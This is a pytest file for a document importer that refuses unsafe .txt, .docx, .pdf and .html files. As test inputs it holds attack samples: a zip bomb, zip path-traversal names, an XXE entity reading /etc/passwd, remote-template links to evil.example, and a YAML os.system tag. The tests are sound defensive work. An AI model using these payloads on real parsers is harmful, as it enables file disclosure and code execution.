"""Files that are not imported: each is refused with what is wrong and what to do, and nothing is written."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from fpdf import FPDF

from bot.__main__ import main
from knowledge.errors import InvalidFile, JianfuError
from knowledge.importing import safety, words
from knowledge.importing.adopt import adopt
from knowledge.importing.draft import Draft, import_file
from knowledge.importing.refusal import Refused
from knowledge.importing.write import write
from knowledge.loader import load_document
from tests import import_notices

RELATIONSHIP = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)


@pytest.fixture(scope="module")
def good_docx(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    path = tmp_path_factory.mktemp("good") / "a.docx"
    import_notices.build_docx(path)
    return path.read_bytes()


def repacked(content: bytes, change: Callable[[str, bytes], bytes], extra: dict[str, bytes] | None = None) -> bytes:
    """A .docx with its parts changed and others added."""
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, part in (extra or {}).items():
            new.writestr(name, part)
    return packed.getvalue()


def same(name: str, part: bytes) -> bytes:
    return part


def imported(tmp_path: Path, name: str, content: bytes) -> Draft:
    path = tmp_path / name
    path.write_bytes(content)
    return import_file(path, "a")


def refused(tmp_path: Path, name: str, content: bytes, *expected: str) -> None:
    with pytest.raises(Refused) as raised:
        imported(tmp_path, name, content)
    message = str(raised.value)
    assert message.startswith(str(tmp_path / name))
    assert all(one in message for one in expected), message
    assert message.endswith("。")
    assert message.count("。") >= 2  # what is wrong, and what to do


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("a.txt", b"", "文件是空的"),
        ("a.txt", b" \n\t", "文件是空的"),
        ("a.txt", "一、甲\x00乙".encode(), "第 1 行有空字符"),
        ("a.txt", "一、甲\n二、乙\x1b[2J".encode(), "第 2 行有看不见的控制字符 U+001B"),
        ("a.txt", "一、不得\u202e反过来".encode(), "控制字符 U+202E"),
        ("a.txt", "一、甲".encode() + b"\xff\xff\xff", "不是 UTF-8，也不是 GB18030"),
        ("a.txt", "一、甲".encode("utf-16"), "请用原来的软件打开"),
        ("a.txt", b"%PDF-1.7 x", "文件名是 .txt，内容却是「.pdf」"),
        ("a.txt", b"<!DOCTYPE html><p>x", "内容却是「网页"),
        ("a.md", b"{\\rtf1 x}", "内容却是「RTF」"),
        ("a.pdf", "一、甲".encode(), "文件名是 .pdf，内容却是「别的东西」"),
        ("a.docx", "一、甲".encode(), "文件名是 .docx"),
        ("a.docx", b"\xd0\xcf\x11\xe0" + b"x" * 99, "旧式 .doc 或设了打开密码"),
        ("a.doc", b"\xd0\xcf\x11\xe0", "不能导入以「.doc」结尾的文件"),
        ("a.docm", b"PK\x03\x04", "带宏的 Word 文件"),
        ("a.exe", b"MZ", "不能导入以「.exe」结尾"),
        ("a", b"x", "没有后缀"),
        ("a.docx", b"PK\x03\x04" + b"\0" * 50, "不是完好的 .docx"),
        ("a.pdf", b"%PDF-1.7\nbroken", "PDF 读不懂"),
        ("a.html", b"<html><script>x</script></html>", "没有读到文字"),
        ("a.html", b"<div>" * 300 + b"x", "标签套得太深"),
        ("a.txt", b"---\n***\n", "没有找到可以成条的文字"),
        ("a.txt", ("一、" + "长" * 20_001).encode(), "分条编号"),
    ],
)  # fmt: skip
def test_refused_with_reason_and_remedy(tmp_path: Path, name: str, content: bytes, expected: str) -> None:
    refused(tmp_path, name, content, expected)


@pytest.mark.fault(9)
def test_too_large_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    with path.open("wb") as file:
        file.truncate(safety.MAX_BYTES * 50)  # sparse: reading it whole would take a gigabyte
    with pytest.raises(Refused, match="超过上限"):
        import_file(path, "a")
    refused(tmp_path, "b.txt", b"a" * (safety.MAX_TEXT_BYTES + 1), "超过上限")


@pytest.mark.fault(21)
def test_no_plain_file(tmp_path: Path) -> None:
    for path, expected in (
        (tmp_path, "不是一个普通文件"),
        (tmp_path / "none.txt", "没有这个文件"),
        (Path("/dev/zero"), "不是一个普通"),
    ):
        with pytest.raises(Refused, match=expected):
            import_file(path, "a")


@pytest.mark.fault(9, 17)
def test_zip_bomb_is_not_unpacked(tmp_path: Path, good_docx: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = repacked(good_docx, same, {"word/media/bomb.bin": b"\0" * (30 * 1024 * 1024)})
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda *_: pytest.fail("unpacked"))
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *_: pytest.fail("unpacked"))
    refused(tmp_path, "a.docx", bomb, "像是压缩炸弹", "word/media/bomb.bin")


@pytest.mark.fault(17)
def test_zip_limits(tmp_path: Path, good_docx: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    many = repacked(good_docx, same, {f"word/x{i}.bin": b"" for i in range(safety.MAX_ENTRIES)})
    refused(tmp_path, "a.docx", many, "超过上限 2000 个")
    monkeypatch.setattr(safety, "MAX_UNPACKED", 10_000)
    refused(tmp_path, "b.docx", good_docx, "解开后有")


@pytest.mark.fault(17)
@pytest.mark.parametrize(
    "name", ["../evil.xml", "/etc/evil.xml", "word/../../evil.xml", "C:/evil.xml", "a\\..\\evil.xml"]
)
def test_zip_path_tricks(tmp_path: Path, good_docx: bytes, name: str) -> None:
    refused(tmp_path, "a.docx", repacked(good_docx, same, {name: b"<a/>"}), "越出了文件夹")


@pytest.mark.fault(17)
def test_macros(tmp_path: Path, good_docx: bytes) -> None:
    refused(tmp_path, "a.docx", repacked(good_docx, same, {"word/vbaProject.bin": b"x"}), "里面有宏")

    def macro_type(name: str, part: bytes) -> bytes:
        plain, macro = b"document.main+xml", b"document.macroEnabled.main+xml"
        return part.replace(plain, macro) if name == "[Content_Types].xml" else part

    refused(tmp_path, "b.docx", repacked(good_docx, macro_type), "里面有宏")


@pytest.mark.fault(17)
@pytest.mark.parametrize("encoding", ["utf8", "utf-16"])
def test_entities(tmp_path: Path, good_docx: bytes, encoding: str) -> None:
    evil = '<?xml version="1.0" encoding="{}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

    def swap(name: str, part: bytes) -> bytes:
        return evil.format(encoding).encode(encoding) if name == "word/document.xml" else part

    refused(tmp_path, "a.docx", repacked(good_docx, swap), "实体或文档类型声明", "word/document.xml")


@pytest.mark.fault(21)
def test_outside_targets(tmp_path: Path, good_docx: bytes) -> None:
    def add(kind: str) -> Callable[[str, bytes], bytes]:
        tag = RELATIONSHIP.format(kind=kind, target="http://evil.example/x.dotm")
        return lambda name, part: (
            part.replace(b"</Relationships>", tag.encode()) if name == "word/_rels/document.xml.rels" else part
        )

    for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument"):
        refused(tmp_path, "a.docx", repacked(good_docx, add(kind)), "要从外面取「http://evil.example/x.dotm」")
    assert len(imported(tmp_path, "b.docx", repacked(good_docx, add("hyperlink"))).clauses) == 25


@pytest.mark.fault(17)
def test_locked_and_scanned_pdf(tmp_path: Path) -> None:
    import_notices.build_pdf(tmp_path / "locked.pdf", password="secret")
    refused(tmp_path, "a.pdf", (tmp_path / "locked.pdf").read_bytes(), "PDF 设了密码", "去掉密码")
    blank = FPDF()
    blank.add_page()
    blank.rect(10, 10, 50, 50, style="F")
    blank.add_page()
    refused(tmp_path, "b.pdf", bytes(blank.output()), "PDF 的 2 页都没有文字", "OCR")


@pytest.mark.fault(17)
def test_cut_pdf_and_docx_never_crash(tmp_path: Path, good_docx: bytes) -> None:
    import_notices.build_pdf(tmp_path / "good.pdf")
    for name, content in (("a.pdf", (tmp_path / "good.pdf").read_bytes()), ("a.docx", good_docx)):
        for share in (0.1, 0.35, 0.6, 0.9, 0.99):
            with suppress(JianfuError):
                imported(tmp_path, name, content[: int(len(content) * share)])


def test_hidden_words_of_a_page_are_listed_not_quoted(tmp_path: Path) -> None:
    page = (
        "<html><style>p{}</style><script>alert('不得显示')</script><h1>关于甲的通知</h1><p>一、要办好这件事情。</p>"
        "<p style='display:none'>二、偷偷加上的一条。</p><p hidden>三、藏起来的一条。</p><!-- 注释 -->"
        "<p>二、&lt;script&gt;照原样显示的文字。</p></html>"
    )
    draft = imported(tmp_path, "a.html", page.encode())
    assert [one.text for one in draft.clauses] == ["要办好这件事情。", "<script>照原样显示的文字。"]
    assert [one.text for one in draft.removed if one.reason == words.HIDDEN] == [
        "二、偷偷加上的一条。",
        "三、藏起来的一条。",
    ]
    assert words.NOTE_SCRIPTS in {one.text for one in draft.looks}
    assert "alert" not in draft.source


def test_hidden_and_deleted_words_of_word_are_listed(tmp_path: Path, good_docx: bytes) -> None:
    run = (
        '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>藏着的话。</w:t></w:r><w:del w:id="1" w:author="x"><w:r>'
        "<w:delText>删掉的话。</w:delText></w:r></w:del><w:r><w:t>看得见的话。</w:t></w:r></w:p><w:sectPr"
    )

    def add(name: str, part: bytes) -> bytes:
        return part.replace(b"<w:sectPr", run.encode(), 1) if name == "word/document.xml" else part

    draft = imported(tmp_path, "a.docx", repacked(good_docx, add))
    reasons = {one.text: one.reason for one in draft.removed}
    assert reasons["藏着的话。"] == words.HIDDEN
    assert reasons["删掉的话。"] == words.DELETED
    assert "看得见的话。" in draft.source
    assert "藏着" not in draft.source
    assert words.NOTE_INSERTED in {one.text for one in draft.looks}


def test_gb18030_is_read_and_said(tmp_path: Path) -> None:
    draft = imported(tmp_path, "a.txt", "关于甲的通知\n一、要办好这件事情。\n".encode("gb18030"))
    assert [one.text for one in draft.clauses] == ["要办好这件事情。"]
    assert words.NOTE_GB18030 in {one.text for one in draft.looks}


@pytest.mark.fault(21)
@pytest.mark.parametrize("identifier", ["../x", "a/b", "", ".x", "a" * 65, "a..b", "甲", "a\0b", "a b"])
def test_ids_that_are_no_file_names(tmp_path: Path, identifier: str) -> None:
    path = tmp_path / "a.txt"
    path.write_text("一、要办好这件事情。", encoding="utf8")
    with pytest.raises(Refused, match="不能用"):
        import_file(path, identifier)


def test_name_that_cannot_be_an_id_asks_for_one(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "通知.txt"
    path.write_text("一、要办好这件事情。", encoding="utf8")
    assert main(["kb", "import", str(path)]) == 1
    assert "请用 --id 给出" in capsys.readouterr().err


def test_folder_that_cannot_be_written(tmp_path: Path) -> None:
    draft = imported(tmp_path, "a.txt", "一、要办好这件事情。".encode())
    (tmp_path / "file").write_text("x")
    with pytest.raises(JianfuError, match="写不进去"):
        write(draft, tmp_path / "file" / "draft")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.txt", "file"]


def test_words_that_look_like_yaml_stay_words(tmp_path: Path) -> None:
    evil = "一、*alias &anchor !!python/object {a: [b, 'c\"\\ #d。\n"
    out = tmp_path / "draft"
    write(imported(tmp_path, "a.txt", evil.encode()), out)
    document = load_document(out / "documents" / "a.yaml", out)
    assert [one.text for one in document] == [evil[2:-1]]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("suggestions: &a [*a]\n", "锚点或别名"),
        ("suggestions:\n  - {clause: '1', question: 问, use: maybe}\n", "true 或 false"),
        ("suggestions:\n  - {clause: ../x, question: 问}\n", "符合"),
        ("suggestions: !!python/name:os.system x\n", "标签"),
    ],
)
def test_suggestions_are_read_strictly(tmp_path: Path, text: str, expected: str) -> None:
    out = tmp_path / "draft"
    write(imported(tmp_path, "a.txt", "一、要办好这件事情。".encode()), out)
    (out / "suggestions.yaml").write_text(text, encoding="utf8")
    with pytest.raises(InvalidFile, match=expected):
        adopt(out)
